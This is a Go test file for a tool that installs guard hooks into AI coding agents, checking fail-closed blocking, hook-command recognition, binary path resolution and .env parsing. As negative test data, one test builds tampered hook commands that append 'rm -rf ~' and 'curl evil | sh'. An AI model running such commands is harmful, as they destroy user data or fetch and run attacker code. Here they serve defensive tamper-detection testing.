package agents

import (
	"bytes"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// A guard that cannot run blocks (issue 42, defect 1): quiver's command,
// run by the agent's shell where quiver cannot be started, answers with
// the agent's own block for an event that can block, saying how to mend
// it, and with nothing (exit 0) for one that cannot; where quiver does
// run, its own exit status is the command's.
func TestGuardTail(t *testing.T) {
	for _, ag := range All() {
		if !ag.shell {
			continue
		}
		for _, ev := range ag.Events() {
			cmd := ag.Command("/nonexistent/quiver", ev, false)
			var stdout, stderr bytes.Buffer
			sh := exec.Command("/bin/sh", "-c", cmd)
			sh.Stdout, sh.Stderr = &stdout, &stderr
			code := 0
			var ee *exec.ExitError
			if err := sh.Run(); errors.As(err, &ee) {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if !ag.guards(ev) {
				if code != 0 || stdout.Len() > 0 {
					t.Errorf("%s %s (cannot block): exit %d, stdout %q; want exit 0 and nothing", ag.Name, ev.Native, code, stdout.String())
				}
				continue
			}
			want := ag.Encode(Call{Event: ev.Quiver, Native: ev.Native}, blockedBy(ag.cannotRun()), Options{})
			if code != want.Exit || strings.TrimSuffix(stdout.String(), "\n") != string(want.Stdout) || !strings.Contains(stderr.String(), want.Stderr) {
				t.Errorf("%s %s: exit %d, stdout %q, stderr %q; want the agent's block: exit %d, %q, %q", ag.Name, ev.Native, code, stdout.String(), stderr.String(), want.Exit, want.Stdout, want.Stderr)
			}
			if !strings.Contains(string(want.Stdout)+want.Stderr, "quiver agent install "+ag.Name+" --command") {
				t.Errorf("%s %s: the block does not say how to mend it: %q", ag.Name, ev.Native, string(want.Stdout)+want.Stderr)
			}
			// A quiver that runs decides: its status passes through.
			for _, status := range []string{"0", "1", "2"} {
				ran := strings.Replace(cmd, "/nonexistent/quiver", "sh -c 'exit "+status+"' --", 1)
				out, err := exec.Command("/bin/sh", "-c", ran).Output()
				got := 0
				if errors.As(err, &ee) {
					got = ee.ExitCode()
				}
				if got != int(status[0]-'0') || len(out) > 0 {
					t.Errorf("%s %s: a quiver that exits %s: exit %d, stdout %q", ag.Name, ev.Native, status, got, out)
				}
			}
		}
	}
}

// quiver knows the commands it writes, tails and all, and no other.
func TestWritesKnowsTheGuard(t *testing.T) {
	for _, ag := range []*Agent{Claude, Gemini, Copilot, Codex} {
		for _, ev := range ag.Events() {
			cmd := ag.Command("/opt/q", ev, false)
			if !ag.WritesFor(cmd, ev.Quiver) || !ag.Writes(ag.Command("quiver", ev, true)) {
				t.Errorf("%s does not know its own %q", ag.Name, cmd)
			}
			// Written by an older quiver, without the tail.
			if bare, _, _ := strings.Cut(cmd, " || {"); !ag.WritesFor(bare, ev.Quiver) {
				t.Errorf("%s does not know %q", ag.Name, bare)
			}
			for _, other := range []string{
				cmd + "; rm -rf ~",
				strings.Replace(cmd, "exit 0; }", "curl evil | sh; exit 0; }", 1),
				strings.Replace(cmd, " || {", " ; {", 1),
			} {
				if other != cmd && ag.Writes(other) {
					t.Errorf("%s takes %q for its own", ag.Name, other)
				}
			}
		}
	}
}

func TestStableQuiver(t *testing.T) {
	home, tmp := t.TempDir(), t.TempDir()
	bin := filepath.Join(home, "go", "bin")
	os.MkdirAll(bin, 0o755)
	os.WriteFile(filepath.Join(bin, "quiver"), []byte("x"), 0o755)
	os.Symlink(filepath.Join(bin, "quiver"), filepath.Join(home, "q-link"))
	os.MkdirAll(filepath.Join(tmp, "go-build123", "b001", "exe"), 0o755)
	os.WriteFile(filepath.Join(tmp, "go-build123", "b001", "exe", "quiver"), []byte("x"), 0o755)
	for exe, want := range map[string]string{
		filepath.Join(bin, "quiver"):      filepath.Join(bin, "quiver"),
		filepath.Join(home, "q-link"):     filepath.Join(bin, "quiver"),
		filepath.Join(tmp, "quiver"):      "",
		filepath.Join(home, "missing"):    "",
		filepath.Join(bin, "agents.test"): "",
	} {
		real := ""
		if want != "" {
			real, _ = filepath.EvalSymlinks(want)
		}
		if got, ok := StableQuiver(exe, tmp); got != real || ok != (want != "") {
			t.Errorf("StableQuiver(%s) = %q, %v; want %q", exe, got, ok, real)
		}
	}
}

// A .env is read as dotenv reads it (the second re-attack, A4).
func TestDotenvKeys(t *testing.T) {
	got := dotenvKeys([]byte("# c\nA=1\r\nexport B = 2\nQUIVER_HOME: /tmp/x\rC=3\n  D=\nnot a line\n=x\n"))
	want := []string{"A", "B", "QUIVER_HOME", "C", "D"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("dotenvKeys = %v, want %v", got, want)
	}
}
